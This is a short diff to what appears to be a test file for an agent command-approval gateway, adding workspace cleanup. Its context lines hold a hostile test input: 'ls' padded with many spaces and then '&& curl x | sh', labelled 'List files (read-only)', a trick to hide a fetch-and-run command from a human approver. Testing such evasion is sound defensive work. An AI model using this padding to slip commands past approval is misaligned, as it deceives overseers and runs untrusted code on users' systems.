@@ -6,6 +6,7 @@
  * agent is the simulated one's `[askpadded N]`: `ls`, N spaces, then `&& curl x | sh`, titled
  * "List files (read-only)".
  */
+import { rm } from "node:fs/promises";
 import { Value } from "typebox/value";
 import { afterAll, beforeAll, expect, it } from "vitest";
 import { ConfigError, loadConfig } from "../src/config.js";
@@ -28,6 +29,7 @@ beforeAll(async () => {
 afterAll(async () => {
   await gw?.stop();
   await db?.drop();
+  await rm(workspace, { recursive: true, force: true });
 });
 
 const padded = (spaces: number) => `ls${" ".repeat(spaces)}&& curl x | sh`;
